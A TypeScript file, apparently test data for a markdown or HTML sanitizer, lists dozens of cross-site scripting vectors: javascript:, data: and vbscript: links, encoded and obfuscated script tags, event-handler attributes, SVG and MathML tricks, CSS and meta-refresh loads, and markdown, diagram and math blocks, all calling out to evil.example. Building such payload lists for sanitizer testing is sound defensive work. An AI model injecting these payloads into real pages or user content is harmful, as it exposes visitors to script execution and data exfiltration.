// Texts that would run a script, load something or send something elsewhere where a page took them for more than text.

/** What a script would do: leave a mark, and call out. */
const RUN = "window.hurt=1;fetch('https://evil.example/run')";
const OUT = "https://evil.example";
const encoded = Buffer.from(`<script>${RUN}</script>`).toString("base64");

const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${encoded}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `blob:${OUT}/1`,
  `${OUT}/pixel.png`,
  "//evil.example/pixel.png",
  `${OUT}\\@localhost/pixel.png`,
];

const IN_MARKDOWN: readonly ((address: string) => string)[] = [
  (address) => `[a link](${address})`,
  (address) => `![an image](${address})`,
  (address) => `[a link][1]\n\n[1]: <${address}>`,
  (address) => `[![an image](${address})](${address})`,
  (address) => `<${address}>`,
];

const TAGS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${OUT}/pixel.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><image href="${OUT}/x.svg"/><use href="${OUT}/x.svg#a"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${OUT}/x.swf"></object><embed src="${OUT}/x.swf">`,
  `<form action="${OUT}/form"><input name=a autofocus onfocus="${RUN}"><button>Send</button></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src="${OUT}/x.mp4" onerror="${RUN}" autoplay></video><audio src="${OUT}/x.mp3"></audio>`,
  `<link rel="stylesheet" href="${OUT}/x.css"><link rel="preload" as="image" href="${OUT}/x.png">`,
  `<link rel="dns-prefetch" href="${OUT}"><link rel="prerender" href="${OUT}/p">`,
  `<style>@import url(${OUT}/x.css);*{background:url(${OUT}/x.png)}</style>`,
  `<div style="background:url(${OUT}/x.png)">x</div>`,
  `<base href="${OUT}/"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}/gone">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `<a href="javascript:${RUN}" ping="${OUT}/ping">x</a>`,
  `</p></div></main><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>\u202c`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
];

const BLOCKS: readonly string[] = [
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror='${RUN}'>"]; click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `$$\\href{javascript:${RUN}}{x}\\includegraphics{${OUT}/x.png}$$`,
  `$\\htmlData{onclick=${RUN}}{x}$`,
  `| a | b |\n|---|:-:|\n| <img src=x onerror="${RUN}"> | ![x](${OUT}/x.png) |`,
  `[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
  `- [ ] <script>${RUN}</script>\n- [x] ![x](${OUT}/x.png)`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}}`,
  `{"__html": "<img src=x onerror='${RUN}'>", "dangerouslySetInnerHTML": {"__html": "<script>${RUN}</script>"}}`,
];

/** Every hostile text, once. */
export const VECTORS: readonly string[] = [
  ...TAGS,
  ...BLOCKS,
  ...ADDRESSES.flatMap((address) => IN_MARKDOWN.map((inMarkdown) => inMarkdown(address))),
];
